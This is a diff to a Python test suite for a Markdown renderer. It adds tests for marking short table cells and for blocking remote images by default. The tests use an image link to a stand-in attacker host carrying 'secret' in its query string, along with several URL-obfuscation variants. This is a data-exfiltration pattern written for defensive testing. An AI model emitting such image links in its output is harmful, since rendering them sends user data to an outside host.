@@ -22,7 +22,41 @@ def test_render_gfm_features() -> None:
     assert "<strong>b</strong> <em>i</em> <s>s</s>" in html
     assert '<a href="https://example.com" rel="noopener noreferrer">https://example.com</a>' in html
     assert 'class="task-list-item-checkbox" disabled="" type="checkbox" checked=""' in html
-    assert '<td style="text-align:right">2</td>' in html
+    assert '<td style="text-align:right" class="kagura-short">2</td>' in html
+
+
+def test_short_table_cells_are_marked_to_stay_on_one_line() -> None:
+    prose = "a long explanation that may wrap between its words"
+    html = render(f"| id | note |\n|---|---|\n| INC-2291 | {prose} |\n| a-very-long-single-token-x | ok |\n")
+    assert '<td class="kagura-short">INC-2291</td>' in html
+    assert f"<td>{prose}</td>" in html
+    assert '<td class="kagura-short">a-very-long-single-token-x</td>' in html  # one token never breaks
+
+
+REMOTE = "![chart](https://evil.example/c.png?q=secret)"
+
+
+@pytest.mark.parametrize(
+    "src",
+    ["https://evil.example/c.png", "//evil.example/c.png", "/\\evil.example/c.png", "HTTP://EVIL.EXAMPLE/c"],
+)
+def test_remote_images_are_not_fetched_by_default(src: str) -> None:
+    html = render(f"![chart]({src})")
+    assert "<img" not in html
+    assert 'class="kagura-remote-image"' in html
+    assert "chart" in visible(html) and "evil.example" in visible(html).lower()
+
+
+def test_data_and_relative_images_still_show_and_remote_ones_can_be_allowed() -> None:
+    assert '<img src="data:image/png;base64,iVBO" alt="a" />' in render("![a](data:image/png;base64,iVBO)")
+    assert '<img src="plot.png" alt="p" />' in render("![p](plot.png)")
+    assert '<img src="https://evil.example/c.png?q=secret" alt="chart" />' in render(
+        REMOTE, remote_images=True
+    )
+    stream = MarkdownStream(remote_images=True)
+    stream.feed(REMOTE)
+    assert stream.finish() == render(REMOTE, remote_images=True)
+    assert "<img" in stream.snapshot()
 
 
 def test_render_footnotes_at_the_end() -> None:
